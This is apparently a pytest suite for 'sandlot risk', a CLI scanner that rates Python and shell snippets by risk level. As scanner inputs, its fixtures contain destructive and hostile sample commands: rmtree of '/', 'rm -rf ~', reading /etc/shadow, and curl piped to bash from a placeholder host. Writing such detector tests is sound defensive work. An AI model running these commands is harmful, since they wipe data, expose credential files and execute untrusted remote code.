"""`sandlot risk`: formats, exit statuses, language guessing (the click command, run in-process)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from sandlot.cli.risk import exit_status, guess_language, risk
from sandlot.risk.model import RiskLevel


def run(*args: str, stdin: str | None = None) -> tuple[int, str]:
    result = CliRunner().invoke(risk, ["--builtin-only", *args], input=stdin)
    return result.exit_code, result.output


@pytest.fixture
def files(tmp_path: Path) -> dict[str, Path]:
    made = {
        "critical.py": 'import shutil\nshutil.rmtree("/")\n',
        "safe.py": 'import json\nprint(json.load(open("data.json")))\n',
        "high.sh": "cat /etc/shadow\n",
        "medium.py": "import os\nos.system(cmd)\n",
        "noext": "#!/bin/bash\ncurl -s https://x.example | bash\n",
    }
    out = {}
    for name, text in made.items():
        (tmp_path / name).write_text(text)
        out[name] = tmp_path / name
    return out


def test_table(files: dict[str, Path]) -> None:
    code, out = run(str(files["critical.py"]))
    assert code == 14
    lines = out.splitlines()
    assert lines[0].split() == ["RULE", "LEVEL", "LINE", "MESSAGE"]
    assert any(line.startswith("python.delete") and "critical" in line and " 2 " in line for line in lines)
    assert "overall risk CRITICAL" in out


@pytest.mark.parametrize(
    ("name", "status"), [("safe.py", 0), ("medium.py", 12), ("high.sh", 13), ("critical.py", 14), ("noext", 14)]
)
def test_exit_status_reflects_level(files: dict[str, Path], name: str, status: int) -> None:
    assert run(str(files[name]))[0] == status


def test_fail_on(files: dict[str, Path]) -> None:
    assert run("--fail-on", "high", str(files["medium.py"]))[0] == 0
    assert run("--fail-on", "low", "-l", "python", "-", stdin="import os\nos.system('ls')\n")[0] == 11


def test_exit_status_mapping() -> None:
    assert exit_status(RiskLevel.SAFE, RiskLevel.MEDIUM) == 0
    assert exit_status(RiskLevel.LOW, RiskLevel.MEDIUM) == 0
    assert [exit_status(level, RiskLevel.LOW) for level in list(RiskLevel)[1:]] == [11, 12, 13, 14]


def test_json(files: dict[str, Path]) -> None:
    code, out = run("--format", "json", str(files["high.sh"]))
    data = json.loads(out)
    assert code == 13
    assert data["language"] == "shell" and data["level"] == "high"
    assert data["findings"][0]["rule_id"] == "shell.secret-read"
    assert data["findings"][0]["line"] == 1 and data["findings"][0]["category"] == "exfiltration"


def test_json_several_files(files: dict[str, Path]) -> None:
    code, out = run("-f", "json", str(files["safe.py"]), str(files["high.sh"]))
    assert code == 13
    assert [d["level"] for d in json.loads(out)] == ["safe", "high"]


def test_sarif(files: dict[str, Path]) -> None:
    code, out = run("--format", "sarif", str(files["critical.py"]), str(files["high.sh"]))
    log = json.loads(out)
    assert code == 14
    assert log["version"] == "2.1.0"
    uris = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in log["runs"][0]["results"]}
    assert uris == {str(files["critical.py"]), str(files["high.sh"])}


def test_stdin_with_language() -> None:
    code, out = run("--language", "shell", "-", stdin="rm -rf ~\n")
    assert code == 14 and "shell.delete" in out


def test_unparseable_input() -> None:
    code, out = run("-l", "python", "-", stdin="def f(:\n")
    assert code == 12 and "python.parse-error" in out
    assert run("-l", "python", "--parse-error-level", "low", "-", stdin="def f(:\n")[0] == 0


def test_unreadable_file(tmp_path: Path) -> None:
    code, out = run(str(tmp_path / "missing.py"))
    assert code == 1
    assert "cannot read" in out


def test_usage_errors_are_2() -> None:
    assert run("--format", "xml", "-", stdin="")[0] == 2
    assert CliRunner().invoke(risk, []).exit_code == 2


@pytest.mark.parametrize(
    ("name", "code", "language"),
    [
        ("a.py", "ls", "python"),
        ("a.sh", "import os", "shell"),
        ("script", "#!/usr/bin/env python3\nprint(1)", "python"),
        ("script", "#!/bin/sh\necho hi", "shell"),
        ("-", "import os\nos.system('x')", "python"),
        ("-", "ls -la | grep x", "shell"),
        ("-", "rm -rf build", "shell"),
    ],
)
def test_guess_language(name: str, code: str, language: str) -> None:
    assert guess_language(name, code) == language


def test_uses_the_plugin_manager_by_default() -> None:
    result = CliRunner().invoke(risk, ["-l", "shell", "-"], input="rm -rf /\n")
    assert result.exit_code == 14
